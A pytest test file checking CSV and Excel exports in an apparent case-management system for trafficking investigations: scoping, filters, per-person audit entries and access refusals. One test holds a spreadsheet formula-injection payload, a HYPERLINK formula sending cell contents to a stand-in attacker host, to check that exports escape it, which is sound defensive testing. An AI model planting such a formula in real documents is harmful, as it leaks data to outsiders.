"""List pages download as CSV or Excel: exactly the rows and columns the user sees, audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.conftest import login


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_case_worker_exports_only_their_organisation_cases(
    client: Any, users: dict[str, Any], make_case: Any
) -> None:
    from jokko.audit.models import AuditEntry

    mine = [make_case(name="Awa Camara"), make_case(name="Binta Sow")]
    theirs = make_case(name="Coumba Fall", worker=users["other_worker"])
    login(client, users["worker"])
    rows = _csv(client.get("/cases/?format=csv"))
    assert rows[0] == ["Reference", "Status", "Type", "Identified", "Place", "Organisation"]
    references = {row[0] for row in rows[1:]}
    assert references == {case.reference for case in mine}
    assert theirs.reference not in references
    assert all("Awa" not in cell for row in rows for cell in row)  # the page shows no names
    entry = AuditEntry.objects.filter(action="export", object_type="case").get()
    assert entry.actor_username == "worker" and entry.detail["records"] == 2
    assert entry.detail["format"] == "csv"


def test_export_keeps_the_page_filters(client: Any, users: dict[str, Any], make_case: Any) -> None:
    first = make_case()
    make_case(name="Binta Sow")
    login(client, users["worker"])
    rows = _csv(client.get(f"/cases/?ref={first.reference}&format=csv"))
    assert [row[0] for row in rows[1:]] == [first.reference]
    page = client.get(f"/cases/?ref={first.reference}").content.decode()
    assert f"?ref={first.reference}&amp;format=xlsx" in page
    assert f"?ref={first.reference}&amp;format=csv" in page


def test_excel_export_neutralises_formulas(client: Any, users: dict[str, Any]) -> None:
    from jokko.investigations.actions import InvestigationInput, open_investigation

    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Ouvrir")'
    open_investigation(
        users["investigator"],
        InvestigationInput(title=payload, opened_on=dt.date.today(), offences=["tip"]),
    )
    login(client, users["investigator"])
    response = client.get("/investigations/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(row=1, column=2).value == "Title"
    cell = sheet.cell(row=2, column=2)
    assert cell.value == "'" + payload
    assert cell.data_type == "s"
    assert isinstance(sheet.cell(row=2, column=3).value, dt.datetime)  # dates stay dates


def test_suspect_list_export_audits_every_person(client: Any, users: dict[str, Any]) -> None:
    from jokko.audit.models import AuditEntry
    from jokko.incidents.actions import IncidentInput, SuspectInput, record_incident
    from jokko.incidents.models import Suspect

    record_incident(
        users["investigator"],
        IncidentInput(
            kind="arrest",
            occurred_on=dt.date.today(),
            place_code="SN-TC-KIDIRA",
            offences=["som"],
            suspects=[SuspectInput(name="Moussa Keita"), SuspectInput(name="Ali Sy")],
        ),
    )
    login(client, users["investigator"])
    rows = _csv(client.get("/incidents/suspects/?format=csv"))
    assert sorted(row[0] for row in rows[1:]) == ["Ali Sy", "Moussa Keita"]
    searched = _csv(client.get("/incidents/suspects/?q=Moussa+Keita&format=csv"))
    assert [row[0] for row in searched[1:]] == ["Moussa Keita"]
    summary = AuditEntry.objects.filter(action="export", person_id=None).last()
    assert summary is not None and summary.detail["filters"] == ["q"]
    assert "Moussa" not in str(summary.detail)  # the searched name is not logged
    exported = set(
        AuditEntry.objects.filter(action="export", object_type="suspect")
        .exclude(person_id=None)
        .values_list("person_id", flat=True)
    )
    assert exported == set(Suspect.objects.values_list("person_id", flat=True))


@pytest.mark.parametrize(
    ("user", "url"),
    [
        ("investigator", "/incidents/"),
        ("investigator", "/incidents/suspects/"),
        ("investigator", "/investigations/"),
        ("prosecutor", "/prosecutions/"),
        ("coordinator", "/bulletins/"),
        ("coordinator", "/cooperation/"),
        ("coordinator", "/cases/"),
    ],
)
def test_every_list_downloads_in_both_formats(
    client: Any, users: dict[str, Any], user: str, url: str
) -> None:
    login(client, users[user])
    page = client.get(url)
    assert page.status_code == 200
    assert "format=csv" in page.content.decode() and "format=xlsx" in page.content.decode()
    assert _csv(client.get(url + "?format=csv"))[0]
    workbook = client.get(url + "?format=xlsx")
    assert workbook.status_code == 200
    assert load_workbook(io.BytesIO(workbook.content)).active is not None


@pytest.mark.parametrize("url", ["/cases/", "/incidents/", "/investigations/", "/prosecutions/"])
def test_export_is_refused_where_the_page_is(client: Any, users: dict[str, Any], url: str) -> None:
    login(client, users["analyst"])
    assert client.get(url + "?format=csv").status_code == 403
